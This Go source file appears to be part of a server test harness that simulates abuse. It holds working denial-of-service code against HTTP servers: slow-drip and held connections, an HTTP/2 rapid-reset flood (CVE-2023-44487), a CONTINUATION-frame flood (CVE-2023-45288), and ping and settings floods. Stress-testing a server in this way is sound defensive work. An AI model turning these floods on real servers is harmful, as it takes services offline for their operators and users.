// Copyright 2026 The Hexcovery Authors.
// SPDX-License-Identifier: Apache-2.0

package abuse

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// attacker does one kind of abuse to one server.
type attacker struct {
	*server
	// up is called when what is to be held is held, or what is sent flows.
	up func()
	// answered counts answers, and ended connections that the server has closed.
	answered, ended atomic.Int64
}

// attack is one kind of abuse. It goes on until ctx is done, or as long as its bounds let
// it, and then leaves nothing behind.
type attack struct {
	name string
	run  func(ctx context.Context, a *attacker)
	// growth is by how many megabytes the server may grow.
	growth int
	// answers are at least how many answers the attacker has had.
	answers int64
}

// each dials count connections and has do hold each, until ctx is done. up is called when
// every one has begun.
func (a *attacker) each(ctx context.Context, count int, address string, do func(context.Context, net.Conn)) {
	var begun, running sync.WaitGroup
	begun.Add(count)
	// From no address in particular, and closed without a trace: else the machine would run
	// out of ports.
	dialer := &net.Dialer{Timeout: answerTimeout}
	slots := make(chan struct{}, 64) // that connect at the same time
	for range count {
		slots <- struct{}{}
		running.Go(func() {
			connection, err := dialer.DialContext(ctx, "tcp", address)
			<-slots
			begun.Done()
			if err != nil {
				return
			}
			_ = connection.(*net.TCPConn).SetLinger(0)
			defer connection.Close()
			defer context.AfterFunc(ctx, func() { connection.Close() })()
			do(ctx, connection)
			if ctx.Err() == nil {
				a.ended.Add(1)
			}
		})
	}
	begun.Wait()
	a.up()
	running.Wait()
}

// holds writes a text, and reads until the server closes the connection.
func (a *attacker) holds(text string) func(context.Context, net.Conn) {
	return func(_ context.Context, c net.Conn) {
		if _, err := io.WriteString(c, text); err != nil {
			return
		}
		answers := bufio.NewReader(c)
		for {
			response, err := http.ReadResponse(answers, nil)
			if err != nil {
				return
			}
			_, _ = io.Copy(io.Discard, response.Body)
			a.answered.Add(1)
		}
	}
}

// drips writes a text, and then a byte now and then.
func drips(text string, every time.Duration) func(context.Context, net.Conn) {
	return func(ctx context.Context, c net.Conn) {
		if _, err := io.WriteString(c, text); err != nil {
			return
		}
		ticker := time.NewTicker(every)
		defer ticker.Stop()
		for range 1000 {
			select {
			case <-ctx.Done():
				return
			case <-ticker.C:
			}
			if _, err := io.WriteString(c, "a"); err != nil {
				return
			}
		}
	}
}

// unread writes a text and reads nothing, until the server has closed the connection: a
// write then fails.
func unread(text string) func(context.Context, net.Conn) {
	return func(ctx context.Context, c net.Conn) {
		_ = c.(*net.TCPConn).SetReadBuffer(4 << 10)
		drips(text, time.Second)(ctx, c)
	}
}

func (a *attacker) post(more string) string {
	return fmt.Sprintf("POST %s HTTP/1.1\r\nHost: a\r\n%s\r\n", ingest, more)
}

func (a *attacker) withKey() string { return "X-API-Key: " + a.key + "\r\n" }

// h2 is a connection that speaks HTTP/2 frame by frame.
type h2 struct {
	net.Conn
	*http2.Framer
	encoded bytes.Buffer
	encoder *hpack.Encoder
	// stream is the last one that was opened.
	stream uint32

	buffered *bufio.Writer
}

func speak(c net.Conn) (*h2, error) {
	h := &h2{Conn: c, buffered: bufio.NewWriterSize(c, 16<<10)}
	h.Framer = http2.NewFramer(h.buffered, c)
	h.encoder = hpack.NewEncoder(&h.encoded)
	if _, err := io.WriteString(h.buffered, http2.ClientPreface); err != nil {
		return nil, err
	}
	return h, h.WriteSettings()
}

// headers encodes the header of a request.
func (h *h2) headers(path string, more ...string) []byte {
	h.encoded.Reset()
	fields := append([]string{":method", "POST", ":scheme", "http", ":authority", "a", ":path", path}, more...)
	for i := 0; i < len(fields); i += 2 {
		_ = h.encoder.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
	}
	return h.encoded.Bytes()
}

// open opens a stream.
func (h *h2) open(ends bool, path string, more ...string) error {
	if h.stream++; h.stream%2 == 0 {
		h.stream++
	}
	return h.WriteHeaders(http2.HeadersFrameParam{StreamID: h.stream, BlockFragment: h.headers(path, more...), EndHeaders: true, EndStream: ends})
}

// frames has a connection write the frames that next writes, as fast as the server takes
// them, and at most count times. What it is answered is read, unless deaf.
func frames(count int, deaf bool, next func(*h2) error) func(context.Context, net.Conn) {
	return func(ctx context.Context, c net.Conn) {
		h, err := speak(c)
		if err != nil {
			return
		}
		if !deaf {
			go func() { _, _ = io.Copy(io.Discard, c) }()
		}
		for range count {
			if next(h) != nil {
				return
			}
		}
		if h.buffered.Flush() != nil {
			return
		}
		drained := make(chan struct{})
		go func() { defer close(drained); _, _ = io.Copy(io.Discard, c) }()
		select {
		case <-ctx.Done():
		case <-drained:
		}
	}
}

const check = "/envoy.service.auth.v3.Authorization/Check"

// rapidReset opens streams and resets them at once (CVE-2023-44487).
func rapidReset(path string, more ...string) func(*h2) error {
	return func(h *h2) error {
		if err := h.open(true, path, more...); err != nil {
			return err
		}
		return h.WriteRSTStream(h.stream, http2.ErrCodeCancel)
	}
}

// streams opens streams whose bodies do not come.
func streams(path string, more ...string) func(*h2) error {
	return func(h *h2) error {
		if err := h.open(false, path, more...); err != nil {
			return err
		}
		return h.buffered.Flush()
	}
}

// continuations send a header without an end (CVE-2023-45288).
func continuations(path string) func(*h2) error {
	field := make([]byte, 0, 8<<10)
	for range 200 {
		// A literal without indexing, with a new name (RFC 7541, section 6.2.2).
		field = append(field, 0, 1, 'x', 30)
		field = append(field, bytes.Repeat([]byte{'y'}, 30)...)
	}
	return func(h *h2) error {
		if h.stream == 0 {
			h.stream = 1
			return h.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.headers(path)})
		}
		return h.WriteContinuation(1, false, field)
	}
}

func pings(h *h2) error { return h.WritePing(false, [8]byte{}) }
func settings(h *h2) error {
	return h.WriteSettings(http2.Setting{ID: http2.SettingMaxFrameSize, Val: 16 << 10})
}
